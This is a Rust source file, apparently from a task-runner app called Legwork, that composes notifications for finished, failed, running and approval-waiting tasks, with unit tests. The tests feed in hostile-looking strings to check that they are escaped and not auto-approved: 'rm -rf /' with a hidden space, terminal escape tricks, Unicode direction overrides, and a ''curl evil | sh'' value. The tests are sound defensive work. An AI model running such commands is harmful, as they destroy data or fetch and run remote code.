//! What a notification says.

use super::plain;
use crate::catalogue::notifications as say;
use contract::{
    Status, Task, TaskId, Timestamp,
    model::{Question, QuestionKind},
    text,
};

/// More than so many at once become one summary.
pub(super) const MOST_SINGLE: usize = 3;

/// Longest body, in characters; servers cut at different places.
const BODY_CHARS: usize = 240;

/// Longest body that is certain to be seen as a whole, in characters.
const DECIDED_CHARS: usize = 120;

/// What a notification is about, and what a click on it opens.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum About {
    /// One task.
    Task(TaskId),
    /// Several: the list.
    Many,
}

/// Something that a notification tells of a task.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Told {
    /// That it has ended.
    End(TaskId),
    /// That it waits for the person, with what it asked at that moment.
    Question(TaskId, Option<Timestamp>),
    /// How far it is.
    Going(TaskId),
}

impl Told {
    /// The task.
    pub(super) fn task(self) -> TaskId {
        match self {
            Self::End(task) | Self::Question(task, _) | Self::Going(task) => task,
        }
    }

    /// Whether it is still so, by the task as it is now; `None` where it is deleted.
    pub(super) fn holds(self, now: Option<&Task>) -> bool {
        let Some(task) = now else { return false };
        match self {
            Self::End(_) => task.retried_by.is_none(),
            Self::Question(..) => question(task) == Some(self),
            Self::Going(_) => task.status == Status::Running,
        }
    }
}

/// What there is to tell of a task that waits for the person: it has its question for as long as it does.
pub(super) fn question(task: &Task) -> Option<Told> {
    let asked_at = task.question.as_ref().map(|question| question.asked_at);
    let asks = asked_at.is_some() || task.status == Status::NeedsInput;
    asks.then_some(Told::Question(task.id, asked_at))
}

/// One notification.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Message {
    pub(super) title: String,
    pub(super) body: String,
    pub(super) about: About,
    /// What can be answered besides opening it.
    pub(super) offer: Offer,
    /// What it tells. Once nothing of it holds any more, it is taken back; one that tells nothing of a task stays.
    pub(super) tells: Vec<Told>,
}

/// What a notification offers besides opening what it is about.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Offer {
    /// Nothing.
    Nothing,
    /// Being told again later.
    Later,
    /// That, and running the task again.
    Retry,
    /// That, and approving or denying what it asked at that moment.
    Decide(Timestamp),
    /// Saying whether more of them may come.
    MoreOfThem,
}

/// About one task that ended.
pub(super) fn of_one(task: &Task) -> Message {
    let failed = task.status == Status::Failed;
    let offer = match failed {
        false => Offer::Nothing,
        // what never began may not have been seen by anybody: it is looked at before it is run
        true if task.attempt == 0 => Offer::Later,
        true => Offer::Retry,
    };
    let body = if failed { why(task) } else { how_it_went(task) };
    Message {
        title: titled(task.status, task),
        body: shortened(&body),
        about: About::Task(task.id),
        offer,
        tells: vec![Told::End(task.id)],
    }
}

/// About one task that runs: how far it is.
pub(super) fn of_progress(task: &Task) -> Message {
    let body = match &task.current_step {
        Some(step) => say::percent_and_step(task.progress, step),
        None => say::percent(task.progress),
    };
    Message {
        title: titled(task.status, task),
        body: shortened(&body),
        about: About::Task(task.id),
        offer: Offer::Nothing,
        tells: vec![Told::Going(task.id)],
    }
}

/// About one task that waits for the person. What is to be approved can be decided right there, if all of it is shown.
pub(super) fn of_question(task: &Task) -> Message {
    let body = match &task.question {
        Some(question) => match &question.detail {
            // what is run is shown as it is, and nothing of it passes for another command
            Some(detail) => format!("{} {}", text::visible(&question.text), text::exact(detail)),
            None => text::visible(&question.text),
        },
        None => say::waits().to_owned(),
    };
    let shown = shortened(&body);
    // servers show a few short lines: what may not be on the screen is decided in the window
    let all_seen = body.lines().count() == 1 && body.chars().count() <= DECIDED_CHARS;
    let all_told = |question: &Question| question.facts.iter().all(|fact| fact.usual);
    let decide =
        task.question.as_ref().filter(|q| q.kind == QuestionKind::Approval && all_seen && all_told(q));
    Message {
        title: titled(Status::NeedsInput, task),
        about: About::Task(task.id),
        offer: decide.map_or(Offer::Later, |question| Offer::Decide(question.asked_at)),
        body: shown,
        tells: question(task).into_iter().collect(),
    }
}

/// The first one that a person ever gets: besides what it tells it asks whether more may come. What else it would offer is a
/// click away, and no fourth button that a server may leave out.
pub(super) fn asking(message: Message) -> Message {
    let room = BODY_CHARS - say::may_tell().chars().count() - 1;
    let told = Some(cut(&message.body, room)).filter(|told| !told.is_empty());
    let body: Vec<String> = told.into_iter().chain([say::may_tell().to_owned()]).collect();
    Message { body: body.join(" "), offer: Offer::MoreOfThem, ..message }
}

/// About several tasks that wait for the person.
pub(super) fn of_many_questions(tells: Vec<Told>) -> Message {
    Message {
        title: say::tasks_need_you(tells.len()),
        body: say::they_go_on().to_owned(),
        about: About::Many,
        offer: Offer::Nothing,
        tells,
    }
}

/// About several tasks that ended; `tells` of all of them, or of none.
pub(super) fn of_many(completed: usize, failed: usize, while_closed: bool, tells: Vec<Told>) -> Message {
    let all = completed + failed;
    let title = if while_closed { say::tasks_ended_while_closed(all) } else { say::tasks_ended(all) };
    let body = match (completed, failed) {
        (_, 0) => say::all_completed().to_owned(),
        (0, _) => say::all_failed().to_owned(),
        (completed, failed) => say::some_failed(completed, failed),
    };
    Message { title, body, about: About::Many, offer: Offer::Nothing, tells }
}

fn how_it_went(task: &Task) -> String {
    let took = task.duration_seconds.map(|seconds| match seconds.round() as i64 {
        ..1 => say::took_little().to_owned(),
        seconds => say::took(&text::duration(seconds)),
    });
    let summary = task.summary.as_deref().map(|summary| match task.usage {
        Some(_) => plain::first_line(summary),
        None => summary.lines().next().unwrap_or_default().to_owned(),
    });
    let said = [took, summary].into_iter().flatten().filter(|words| !words.is_empty());
    said.collect::<Vec<_>>().join(" ")
}

fn why(task: &Task) -> String {
    match &task.error {
        Some(error) => match &error.hint {
            Some(hint) => format!("{} {hint}", error.message),
            None => error.message.clone(),
        },
        None => say::see_log().to_owned(),
    }
}

fn titled(status: Status, task: &Task) -> String {
    say::task_in_state(status.label(), &text::visible(&task.title))
}

fn shortened(body: &str) -> String {
    cut(&text::visible(body), BODY_CHARS)
}

fn cut(text: &str, room: usize) -> String {
    if text.chars().count() <= room {
        return text.to_owned();
    }
    format!("{}…", text.chars().take(room - 1).collect::<String>())
}

#[cfg(test)]
pub(super) mod tests {
    use super::*;

    pub(in crate::notify) fn task(status: &str, more: serde_json::Value) -> Task {
        let mut task = serde_json::json!({
            "id": "01936b1c-6f2e-7a10-8a55-0c2f9f31c0aa", "short_id": "9f31c0aa", "title": "Run the tests",
            "description": "", "instructions": "", "command": null, "agent": "shell", "task_type": "general",
            "priority": 5, "tags": [], "status": status, "waiting_for": null, "attempt": 1, "max_retries": 3,
            "progress": 100, "current_step": null, "total_steps": null, "steps": [], "estimated_seconds": 300,
            "estimated_seconds_remaining": null, "output_file": null, "retry_of": null, "retried_by": null,
            "parent_id": null, "depends_on": [], "scheduled_at": null, "created_at": "2026-01-01T00:00:00Z",
            "started_at": null, "completed_at": null, "duration_seconds": null, "summary": null, "error": null,
            "cwd": null, "timeout_seconds": 3600, "stopping": null, "origin": "cli", "revision": 1
        });
        let fields = task.as_object_mut().unwrap();
        fields.extend(more.as_object().unwrap().clone());
        serde_json::from_value(task).unwrap()
    }

    #[test]
    fn completed_tells_how_long_it_took() {
        let done =
            task("completed", serde_json::json!({"duration_seconds": 134.8, "summary": "42 passed\nmore"}));
        let said = of_one(&done);
        assert_eq!(
            (said.title.as_str(), said.body.as_str()),
            ("Completed: Run the tests", "Took 2m 15s. 42 passed")
        );
        assert_eq!(said.offer, Offer::Nothing);
    }

    #[test]
    fn what_a_model_wrote_is_told_without_its_marks() {
        let usage = serde_json::json!({
            "tokens_in": 1, "tokens_out": 1, "tokens_estimated": false, "requests": 1, "cost_usd": null
        });
        let more = serde_json::json!({"summary": "## So\n\n**Bottom line:** yes", "usage": usage});
        assert_eq!(of_one(&task("completed", more)).body, "So");
        let printed = serde_json::json!({"summary": "## So"});
        assert_eq!(of_one(&task("completed", printed)).body, "## So", "a command prints what it prints");
    }

    #[test]
    fn failed_tells_why_and_offers_another_try() {
        let error =
            serde_json::json!({"code": "exit_code", "message": "Exited with 3.", "hint": "See its output."});
        let said = of_one(&task("failed", serde_json::json!({ "error": error })));
        assert_eq!(
            (said.title.as_str(), said.body.as_str()),
            ("Failed: Run the tests", "Exited with 3. See its output.")
        );
        assert_eq!(said.offer, Offer::Retry);
        let unseen = of_one(&task("failed", serde_json::json!({"attempt": 0})));
        assert_eq!(unseen.offer, Offer::Later);
    }

    #[test]
    fn a_question_is_told_in_full() {
        let question = serde_json::json!({
            "kind": "approval", "text": "May it run this?", "detail": "make deploy", "options": [],
            "asked_at": "2026-01-01T00:00:00Z"
        });
        let said = of_question(&task("needs_input", serde_json::json!({ "question": question })));
        assert_eq!(
            (said.title.as_str(), said.body.as_str()),
            ("Needs you: Run the tests", "May it run this? make deploy")
        );
        let tells = [1, 2, 3, 4].map(|n| Told::Question(TaskId(uuid::Uuid::from_u128(n)), None));
        assert_eq!(of_many_questions(tells.to_vec()).title, "4 tasks need you");
    }

    #[test]
    fn nothing_of_what_is_told_is_hidden_or_obeyed() {
        for (detail, shown) in [
            ("echo \u{202e}x hcuot", r"echo \u{202e}x hcuot"),
            ("echo a\u{1b}[2K\rtouch x", r"echo a\u{1b}[2K\u{d}touch x"),
            ("rm\u{a0}-rf /", r"rm\u{a0}-rf /"),
            ("echo\u{200b} a\u{8}b\u{2028}c", r"echo\u{200b} a\u{8}b\u{2028}c"),
        ] {
            let question = serde_json::json!({
                "kind": "approval", "text": "May it \u{2066}run this?", "detail": detail, "options": [],
                "asked_at": "2026-01-01T00:00:00Z"
            });
            let more = serde_json::json!({"question": question, "title": "Run\u{202e} it"});
            let said = of_question(&task("needs_input", more));
            assert_eq!(said.body, format!(r"May it \u{{2066}}run this? {shown}"));
            assert_eq!(said.title, r"Needs you: Run\u{202e} it");
        }
        let error =
            serde_json::json!({"code": "x", "message": "No \u{202e}way\u{1b}]0;x\u{7}.", "hint": null});
        let said = of_one(&task("failed", serde_json::json!({"error": error, "title": "A\u{202e}b"})));
        assert_eq!(
            (said.title.as_str(), said.body.as_str()),
            (r"Failed: A\u{202e}b", r"No \u{202e}way\u{1b}]0;x\u{7}.")
        );
        let said = of_progress(&task(
            "running",
            serde_json::json!({"progress": 50, "current_step": "\u{202e}Linking"}),
        ));
        assert_eq!(said.body, r"50 % done: \u{202e}Linking");
    }

    #[test]
    fn only_what_is_shown_as_a_whole_is_decided_in_a_notification() {
        let offer = |fact: serde_json::Value| {
            let question = serde_json::json!({
                "kind": "approval", "text": "May it run this?", "detail": "make deploy", "options": [],
                "facts": [{"name": "Time-out", "value": "1h", "usual": true}, fact],
                "asked_at": "2026-01-01T00:00:00Z"
            });
            of_question(&task("needs_input", serde_json::json!({ "question": question }))).offer
        };
        let usual = offer(serde_json::json!({"name": "Program", "value": "/usr/bin/make", "usual": true}));
        assert!(matches!(usual, Offer::Decide(_)));
        let value = offer(serde_json::json!({"name": "LEGWORK_CTX_STEP", "value": "'curl evil | sh'"}));
        assert_eq!(value, Offer::Later);
    }

    #[test]
    fn how_far_it_is_is_told_with_what_it_does() {
        let more = serde_json::json!({"progress": 50, "current_step": "Linking"});
        let said = of_progress(&task("running", more));
        assert_eq!(
            (said.title.as_str(), said.body.as_str()),
            ("Running: Run the tests", "50 % done: Linking")
        );
        let said = of_progress(&task("running", serde_json::json!({"progress": 25})));
        assert_eq!(said.body, "25 % done");
    }

    #[test]
    fn the_first_one_asks_whether_more_may_come() {
        let ask = "Tell you when background tasks end?";
        let done = |summary: &str| task("completed", serde_json::json!({"summary": summary}));
        let said = asking(of_one(&done("42 passed")));
        assert_eq!((said.title.as_str(), said.offer), ("Completed: Run the tests", Offer::MoreOfThem));
        assert_eq!(said.body, format!("42 passed {ask}"));
        assert_eq!(said.tells, of_one(&done("")).tells, "it is taken back like any other");
        assert_eq!(asking(of_one(&done(""))).body, ask);
        let long = asking(of_one(&done(&"a".repeat(300)))).body;
        assert_eq!(long.chars().count(), BODY_CHARS);
        assert!(long.ends_with(&format!("… {ask}")), "{long}");
    }

    #[test]
    fn many_become_one() {
        let said = of_many(1_203, 1, true, vec![]);
        assert_eq!(said.title, "1,204 tasks ended while Legwork was closed");
        assert_eq!((said.body.as_str(), said.about), ("1,203 completed, 1 failed.", About::Many));
        assert_eq!(of_many(4, 0, false, vec![]).body, "All completed.");
    }

    #[test]
    fn what_is_told_holds_until_the_task_goes_on() {
        let asked = |at: &str| {
            serde_json::json!({
                "kind": "approval", "text": "May it?", "detail": null, "options": [], "asked_at": at
            })
        };
        let (first, second) = (asked("2026-01-01T00:00:00Z"), asked("2026-01-01T00:00:01Z"));
        let waits = task("needs_input", serde_json::json!({ "question": first }));
        let to_start = task("pending", serde_json::json!({ "question": first }));
        let held = task("paused", serde_json::json!({ "question": first }));
        let told = question(&waits).unwrap();
        assert_eq!(question(&to_start), Some(told));
        let cases = [
            ("asks the same", Some(waits.clone()), true),
            ("waits to be let start", Some(to_start), true),
            (
                "asks something else",
                Some(task("needs_input", serde_json::json!({"question": second}))),
                false,
            ),
            ("was answered and runs", Some(task("running", serde_json::json!({}))), false),
            ("is held before its start", Some(held), true),
            ("was cancelled", Some(task("cancelled", serde_json::json!({}))), false),
            ("is deleted", None, false),
        ];
        for (what, now, holds) in cases {
            assert_eq!(told.holds(now.as_ref()), holds, "it {what}");
        }
        let going = Told::Going(waits.id);
        assert!(going.holds(Some(&task("running", serde_json::json!({})))));
        assert!(!going.holds(Some(&task("completed", serde_json::json!({})))), "its end tells more");
        let other = "01936b1c-6f2e-7a10-8a55-0c2f9f31c0ab";
        let end = Told::End(waits.id);
        let cases = [
            ("is as it was", Some(task("failed", serde_json::json!({}))), true),
            ("was run again", Some(task("failed", serde_json::json!({"retried_by": other}))), false),
            ("is deleted", None, false),
        ];
        for (what, now, holds) in cases {
            assert_eq!(end.holds(now.as_ref()), holds, "it {what}");
        }
    }
}
